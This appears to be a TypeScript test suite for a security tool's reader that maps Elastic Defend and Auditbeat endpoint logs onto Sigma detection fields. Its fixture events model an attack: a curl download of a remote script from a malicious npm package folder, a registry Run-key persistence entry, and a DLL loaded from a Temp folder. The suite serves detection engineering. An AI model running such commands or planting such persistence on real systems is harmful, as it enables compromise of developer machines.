/**
 * ECS endpoint documents without a `winlog` object (Elastic Defend, Auditbeat). The fixture
 * test/fixtures/windows/atomic-1-3-4.elastic-defend.ndjson holds the seed's atomic tests 1, 3 and
 * 4 (the seven events of test/fixtures/windows/*.sysmon.xml) as Elastic Defend writes such events
 * to `logs-endpoint.events.process|file|network-*`: each Sysmon field put where Elastic's endpoint
 * package names it (process.executable, process.command_line, process.parent.*, process.pe.*,
 * process.hash.*, process.Ext.token.integrity_level_name, file.path, source.*, destination.*,
 * network.direction, user.domain/name, host.os.*), event.category/type/action as Defend sets them.
 */
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../src/events/event.js';
import { ecsReader } from '../../src/sources/ecs.js';
import { sniffFormat } from '../../src/sources/open.js';
import { windowsXmlReader } from '../../src/sources/windows-xml.js';
import { readWith } from './helpers.js';

const WIN = fileURLToPath(new URL('../fixtures/windows/', import.meta.url));
const FIXTURE = readFileSync(`${WIN}atomic-1-3-4.elastic-defend.ndjson`, 'utf8');
const DOCS = FIXTURE.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
const read = (text: string) => readWith(ecsReader, Readable.from([text]), 'ecs.ndjson');

/** The Sigma names both readers give (the XML reader adds Sysmon's own, the ECS reader keeps the document). */
const SIGMA = ['Image', 'CommandLine', 'ParentImage', 'ParentCommandLine', 'CurrentDirectory', 'OriginalFileName', 'Description', 'Product', 'Company', 'TargetFilename', 'SourceIp', 'DestinationIp', 'User'];
const sigma = (e: NormalizedEvent) => ({
  category: e.category,
  product: e.product,
  time: e.time,
  host: e.host,
  ...Object.fromEntries(SIGMA.filter((k) => e.fields[k] !== undefined).map((k) => [k, String(e.fields[k])])),
});

describe('ecs reader', () => {
  it('is chosen for Elastic Defend documents, bare or as search hits; Winlogbeat documents stay with winlogbeat', () => {
    expect(sniffFormat(FIXTURE)?.format).toBe('ecs');
    const hits = JSON.stringify({ took: 3, timed_out: false, hits: { total: { value: 7 }, hits: DOCS.map((d, i) => ({ _index: '.ds-logs-endpoint.events.process-default-2026.11.27-000001', _id: `id${i}`, _source: d })) } });
    expect(sniffFormat(hits)?.format).toBe('ecs');
    expect(sniffFormat(JSON.stringify({ ...DOCS[0], winlog: { channel: 'Security', event_id: 4688 } }))?.format).toBe('winlogbeat');
    // An ECS document of no endpoint category (a web server's access log) is not this reader's.
    expect(sniffFormat(JSON.stringify({ '@timestamp': '2026-11-27T09:14:01Z', event: { category: ['web'] }, url: { path: '/' } }))?.format).not.toBe('ecs');
  });

  it('gives the Sigma fields, category and time the Sysmon XML of the same events gives', async () => {
    const fromEcs = await read(FIXTURE);
    expect(fromEcs.bad).toEqual([]);
    const xml = ['atomic1-npm-postinstall', 'atomic3-workflow-file', 'atomic4-registry-4873'].map((n) => readFileSync(`${WIN}${n}.sysmon.xml`, 'utf8')).join('\n');
    const fromXml = await readWith(windowsXmlReader, Readable.from([xml]));
    expect(fromEcs.events.map(sigma)).toEqual(fromXml.events.map(sigma));
    const cmd = fromEcs.events[1]!;
    expect(cmd.fields).toMatchObject({
      ProcessGuid: '5f1c2a10-978b-a5ee-9471-3f09aa08e3ca',
      ParentProcessGuid: '5f1c2a10-e79b-4cdd-65fa-8f517d9fa5a2',
      IntegrityLevel: 'medium',
      Hashes: expect.stringMatching(/^MD5=[0-9A-F]{32},SHA1=[0-9A-F]{40},SHA256=[0-9A-F]{64}$/),
    });
    expect(fromEcs.events[6]!.fields).toMatchObject({ DestinationPort: 4873, Initiated: 'true', Protocol: 'tcp' });
  });

  it('reads hits as their documents, with _index and _id', async () => {
    const hits = JSON.stringify({ hits: { hits: DOCS.map((d, i) => ({ _index: 'logs-endpoint', _id: `id${i}`, _source: d })) } });
    const r = await read(hits);
    expect(r.events.map(sigma)).toEqual((await read(FIXTURE)).events.map(sigma));
    expect(r.events[3]!.fields).toMatchObject({ _index: 'logs-endpoint', _id: 'id3' });
  });

  it('takes the category from event.category, event.type and event.action', async () => {
    const cases: Array<[Record<string, unknown>, string | undefined]> = [
      [{ category: ['process'], type: ['start'], action: 'exec' }, 'process_creation'],
      [{ category: 'process', type: 'start', action: 'executed' }, 'process_creation'],
      [{ category: ['process'], type: ['start'], action: 'fork' }, undefined],
      [{ category: ['process'], type: ['end'], action: 'end' }, 'process_termination'],
      [{ category: ['network'], type: ['start'], action: 'connection_attempted' }, 'network_connection'],
      [{ category: ['network'], type: ['connection', 'start'], action: 'connected-to' }, 'network_connection'],
      [{ category: ['network'], type: ['end'], action: 'disconnect_received' }, undefined],
      [{ category: ['network'], type: ['protocol', 'info'], action: 'lookup_requested', dns: true }, 'dns_query'],
      [{ category: ['file'], type: ['creation'], action: 'creation' }, 'file_event'],
      [{ category: ['file'], type: ['change'], action: 'overwrite' }, 'file_event'],
      [{ category: ['file'], type: ['change'], action: 'rename' }, 'file_rename'],
      [{ category: ['file'], type: ['deletion'], action: 'deletion' }, 'file_delete'],
      [{ category: ['file'], type: ['change'], action: 'modification' }, undefined],
      [{ category: ['registry'], type: ['change'], action: 'modification' }, 'registry_set'],
      [{ category: ['registry'], type: ['creation'], action: 'creation' }, 'registry_add'],
      [{ category: ['registry'], type: ['deletion'], action: 'deletion' }, 'registry_delete'],
      [{ category: ['library'], type: ['start'], action: 'load' }, 'image_load'],
      [{ category: ['driver'], type: ['start'], action: 'load' }, 'driver_load'],
    ];
    const lines = cases.map(([{ dns, ...event }]) => JSON.stringify({ '@timestamp': '2026-11-27T09:14:01Z', event, host: { os: { type: 'windows' } }, ...(dns ? { dns: { question: { name: 'evil.example' } } } : {}) }));
    const r = await read(lines.join('\n'));
    expect(r.events.map((e) => e.category)).toEqual(cases.map(([, category]) => category));
  });

  it('reads an Auditbeat exec (arguments, no command line) and Elastic Defend on Linux, registry and library events', async () => {
    const auditbeat = {
      '@timestamp': '2026-11-27T10:00:00.000Z',
      event: { module: 'auditd', category: ['process'], type: ['start'], action: 'executed', outcome: 'success' },
      process: { pid: 4242, executable: '/usr/bin/curl', name: 'curl', args: ['curl', '-s', 'http://198.51.100.9/x.sh'], working_directory: '/home/dev/app/node_modules/evil', parent: { pid: 4241 } },
      user: { name: 'dev', id: '1000' },
      host: { name: 'build-7', os: { family: 'debian', kernel: '6.1.0-13-amd64' } },
    };
    const registry = {
      '@timestamp': '2026-11-27T10:00:01.000Z',
      event: { category: ['registry'], type: ['change'], action: 'modification' },
      registry: { path: 'HKEY_USERS\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', value: 'updater', data: { strings: ['C:\\Users\\alice\\AppData\\Local\\Temp\\u.exe'] } },
      process: { executable: 'C:\\Program Files\\nodejs\\node.exe', pid: 6120 },
      host: { name: 'ws', os: { family: 'windows' } },
    };
    const library = {
      '@timestamp': '2026-11-27T10:00:02.000Z',
      event: { category: ['library'], type: ['start'], action: 'load' },
      dll: { path: 'C:\\Users\\alice\\AppData\\Local\\Temp\\version.dll', hash: { sha256: 'ab'.repeat(32) } },
      process: { executable: 'C:\\Program Files\\nodejs\\node.exe', pid: 6120 },
      host: { name: 'mac-1', os: { type: 'windows' } },
    };
    const mac = { ...auditbeat, event: { category: ['process'], type: ['start'], action: 'exec' }, host: { name: 'mac-1', os: { platform: 'darwin' } } };
    const r = await read([auditbeat, registry, library, mac].map((d) => JSON.stringify(d)).join('\n'));
    expect(r.bad).toEqual([]);
    expect(r.events[0]).toMatchObject({ category: 'process_creation', product: 'linux', host: 'build-7', user: 'dev', fields: { Image: '/usr/bin/curl', CommandLine: 'curl -s http://198.51.100.9/x.sh', ParentProcessId: 4241, CurrentDirectory: '/home/dev/app/node_modules/evil' } });
    // The hive as Sysmon and SigmaHQ's rules write it (`HKU\`), as the Defender reader writes it.
    expect(r.events[1]).toMatchObject({ category: 'registry_set', product: 'windows', fields: { TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', Details: 'C:\\Users\\alice\\AppData\\Local\\Temp\\u.exe' } });
    expect(r.events[2]).toMatchObject({ category: 'image_load', fields: { ImageLoaded: library.dll.path, Hashes: `SHA256=${'AB'.repeat(32)}` } });
    expect(r.events[3]).toMatchObject({ category: 'process_creation', product: 'macos' });
  });
});

describe("ecs documents in Kibana's CSV report", () => {
  // The fixture's documents as Kibana Discover's CSV report of a saved search writes them: one
  // column per ECS field shown, dotted, a list's values joined with ", ", every value quoted.
  const COLUMNS = ['@timestamp', 'host.name', 'event.category', 'event.type', 'event.action', 'user.domain', 'user.name', 'process.executable', 'process.command_line', 'process.pid', 'process.entity_id', 'process.parent.executable', 'process.parent.command_line', 'process.working_directory', 'file.path', 'source.ip', 'destination.ip', 'destination.port', 'network.direction'];
  const cell = (doc: Record<string, unknown>, path: string) => {
    let node: unknown = doc;
    for (const key of path.split('.')) node = node !== null && typeof node === 'object' ? (node as Record<string, unknown>)[key] : undefined;
    const text = node === undefined ? '' : Array.isArray(node) ? node.join(', ') : String(node);
    return `"${text.replace(/"/g, '""')}"`;
  };
  const csv = [COLUMNS.map((c) => `"${c}"`).join(','), ...DOCS.map((d) => COLUMNS.map((c) => cell(d, c)).join(','))].join('\n') + '\n';

  it('reads each row as the document it shows', async () => {
    expect(sniffFormat(csv)?.format).toBe('csv-events');
    const { csvEventsReader } = await import('../../src/sources/csv-events.js');
    const fromCsv = await readWith(csvEventsReader, Readable.from([csv]));
    expect(fromCsv.bad).toEqual([]);
    const fromJson = await read(FIXTURE);
    const picked = (e: NormalizedEvent) => ({ ...sigma(e), Description: undefined, Product: undefined, Company: undefined, OriginalFileName: undefined, ProcessGuid: e.fields.ProcessGuid });
    expect(fromCsv.events.map(picked)).toEqual(fromJson.events.map(picked));
  });
});
